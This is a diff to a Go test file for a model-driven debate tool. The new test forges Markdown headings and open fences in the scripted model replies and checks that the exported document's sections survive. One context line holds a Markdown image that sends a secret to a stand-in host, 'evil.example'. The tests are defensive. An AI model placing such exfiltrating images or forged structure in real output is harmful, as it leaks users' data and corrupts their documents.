@@ -1,9 +1,11 @@
 package main_test
 
 import (
+	"encoding/json"
 	"os"
 	"path/filepath"
 	"regexp"
+	"slices"
 	"strings"
 	"testing"
 
@@ -154,4 +156,113 @@ func TestHostileMarkdownStaysInItsPlace(t *testing.T) {
 	if !strings.Contains(docs[2], "![track](https://evil.example/t.png?leak=secret)") && !strings.Contains(docs[2], `!\[track](https://evil.example/t.png?leak=secret)`) {
 		t.Errorf("the reply's image is not kept as text:\n%s", docs[2])
 	}
+}
+
+// forgedMD is appended to the model's text in TestForgedRepliesKeepTheSections:
+// a section heading of its own and a fence it leaves open.
+const forgedMD = "\n\n## Forged Section\n\n```\n"
+
+// forged returns v with forgedMD appended to every string longer than a
+// word or two (enums such as "conclude" or "YES" are left, so that the
+// debate takes its usual course) but the keys of skip.
+func forged(v any, skip ...string) any {
+	switch x := v.(type) {
+	case string:
+		if len(x) > 25 {
+			return x + forgedMD
+		}
+	case []any:
+		for i := range x {
+			x[i] = forged(x[i], skip...)
+		}
+	case map[string]any:
+		for k := range x {
+			if !slices.Contains(skip, k) {
+				x[k] = forged(x[k], skip...)
+			}
+		}
+	}
+	return v
+}
+
+// TestForgedRepliesKeepTheSections runs each format's e2e script twice,
+// the second time with a section heading and an open fence appended to
+// every text and every string of every structured reply: the Markdown
+// export has the same sections (read by a CommonMark parser, as the
+// dashboard, the shell and the PDF read it), none of them forged, and the
+// token table still ends it. Crux checks its question and falsifiers
+// (they keep theirs) and takes another course with forged positions, so
+// only the forged heading and the last section are checked there.
+func TestForgedRepliesKeepTheSections(t *testing.T) {
+	sections := func(doc string) []string {
+		var out []string
+		root := goldmark.New(goldmark.WithExtensions(extension.Table)).Parser().Parse(text.NewReader([]byte(doc)))
+		_ = ast.Walk(root, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
+			if h, ok := n.(*ast.Heading); ok && entering && h.Level <= 3 {
+				out = append(out, strings.Repeat("#", h.Level)+" "+string(h.Lines().Value([]byte(doc))))
+			}
+			return ast.WalkContinue, nil
+		})
+		return out
+	}
+	for _, tc := range []struct {
+		script string
+		args   []string
+		same   bool
+	}{
+		{"perspectives.yaml", []string{"debate", redisTopic, "--no-checkpoints"}, true},
+		{"council.yaml", []string{"debate", "Acme Corp", "--format", "council", "--max-rounds", "3"}, true},
+		{"formal.yaml", []string{"debate", "Should we adopt event sourcing for orders?", "--format", "formal", "--rounds", "2"}, true},
+		{"crux.yaml", []string{"debate", "Is Bitcoin digital gold?", "--format", "crux", "--agents", "saylor,hayes"}, false},
+	} {
+		t.Run(strings.TrimSuffix(tc.script, ".yaml"), func(t *testing.T) {
+			var docs [2][]string
+			for i, forge := range []bool{false, true} {
+				sc := loadScript(t, tc.script)
+				if forge {
+					for _, r := range sc.Rules {
+						for _, rep := range append([]*script.Reply{r.Reply}, ptrs(r.Replies)...) {
+							if rep == nil {
+								continue
+							}
+							if rep.Text != "" {
+								rep.Text += forgedMD
+							}
+							var v any
+							if len(rep.JSON) > 0 && json.Unmarshal(rep.JSON, &v) == nil {
+								rep.JSON, _ = json.Marshal(forged(v, "question", "threshold", "deadline"))
+							}
+						}
+					}
+					var err error
+					if sc, err = script.New(sc.Rules...); err != nil {
+						t.Fatal(err)
+					}
+				}
+				_, dir, env := fakeOpenAI(t, sc, fakellm.WithTokenDelay(0))
+				parley(t, dir, env, "", append(tc.args, "--model", "test-model")...)
+				id := strings.Fields(strings.Split(mustParley(t, dir, env, "", "list").stdout, "\n")[1])[0]
+				docs[i] = sections(mustParley(t, dir, env, "", "export", id, "--as", "md", "--full").stdout)
+			}
+			for _, h := range docs[1] {
+				if strings.Contains(h, "Forged") {
+					t.Errorf("a reply opened a section of the document: %q", h)
+				}
+			}
+			if n := len(docs[1]); n == 0 || docs[1][n-1] != "## Tokens and cost" {
+				t.Errorf("the document does not end with its token table: %q", docs[1])
+			}
+			if tc.same && !slices.Equal(docs[0], docs[1]) {
+				t.Errorf("forged replies change the sections to\n%q\nwant\n%q", docs[1], docs[0])
+			}
+		})
+	}
+}
+
+func ptrs(rs []script.Reply) []*script.Reply {
+	out := make([]*script.Reply, len(rs))
+	for i := range rs {
+		out[i] = &rs[i]
+	}
+	return out
 }
